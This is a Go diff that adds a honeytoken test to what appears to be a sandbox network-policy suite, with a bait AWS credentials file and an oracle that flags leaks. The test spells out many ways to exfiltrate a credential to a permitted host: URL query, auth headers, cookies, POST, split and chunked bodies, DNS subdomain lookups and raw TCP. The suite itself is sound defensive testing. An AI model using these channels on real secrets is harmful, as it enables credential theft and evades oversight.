@@ -9,7 +9,50 @@ import (
 
 const classChannels = "net.permitted-channels"
 
-func channelsRows() []Row { return public(classChannels, channels()...) }
+func channelsRows() []Row { return public(classChannels, append(channels(), baits()...)...) }
+
+// baits are credentials that nobody honest uses, in the home: what the command
+// finds there is the launcher's, or the user's own where nothing else is.
+func baits() []Row {
+	to := []Reach{{Host: "allowed.test", Ports: []int{80}, Kind: "http"}, {Host: "allowed.test", Ports: []int{443}, Kind: "tls", Inspect: true},
+		{Host: "*.wild.test", Ports: []int{80}, Kind: "http"}, {Host: "allowed.test", Ports: []int{22}, Kind: "tcp"}}
+	const plain = "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
+	ask := func(to, path, headers string) string {
+		return say(to, "GET "+path+" HTTP/1.1\r\nHost: allowed.test\r\n"+headers+"Connection: close\r\n\r\n")
+	}
+	ways := []string{
+		ask("direct allowed.test:80", "/bait?k={}", ""), ask("direct allowed.test:80", "/bait", "Authorization: Bearer {}\r\n"), ask("direct allowed.test:80", "/bait", "Authorization: Basic {basic}\r\n"),
+		ask("direct allowed.test:80", "/bait?k={escaped}", ""), ask("connect allowed.test:443", "/bait/{}", ""), ask("direct allowed.test:443", "/bait", "Cookie: k={}\r\n"), ask("socks allowed.test:443", "/bait?{}", ""),
+		say("direct allowed.test:443", "POST /bait HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{}"),
+		say("direct allowed.test:80", "POST /bait HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{half1}", "{half2}"),
+		say("direct allowed.test:80", "POST /bait HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{size1}\r\n{half1}\r\n", "{size2}\r\n{half2}\r\n0\r\n\r\n"),
+		"lookup {}.wild.test", say("direct allowed.test:22", "{}\r\n"), say("direct allowed.test:22", "{half1}", "{half2}\r\n"),
+	}
+	return []Row{{ID: "EXF-007", Core: true, Title: "a credential that lies in the home as a bait is sent to an allowed host", Refs: []string{"MITRE ATT&CK T1567", "MITRE Engage EAC0005"},
+		Options: Options{Reach: to}, Accept: append([]string{"ETIMEDOUT"}, netReplies...), Action: "net-secret", Args: []string{"from=H/.aws/credentials", "ok=" + say("direct allowed.test:80", plain), "say=" + rowsOf(ways...)},
+		Oracle: both(baited, recorded(Attempt{Action: "honey.sent", Verdict: "denied"}, Attempt{Action: "honey.read"}))}}
+}
+
+// shortestBait is as long as a bait is at least: less of one is no use to anybody.
+const shortestBait = 18
+
+// baited are requests and bytes that should never have arrived.
+func baited(w *World, _ Observation) []string {
+	var out []string
+	for _, v := range w.net.requests("/bait") {
+		if v.method != "POST" || len(v.body) >= shortestBait {
+			out = append(out, fmt.Sprintf("%s:%d got %s %.40s with a bait", v.name, v.to.Port(), v.method, v.target))
+		}
+	}
+	w.net.mu.Lock()
+	defer w.net.mu.Unlock()
+	for _, said := range w.net.raw {
+		if len(strings.TrimSpace(said)) >= shortestBait {
+			out = append(out, fmt.Sprintf("a server without a protocol was told %.60q", said))
+		}
+	}
+	return out
+}
 
 // A forge of which one repository may be pushed to, and a registry that may be
 // read.
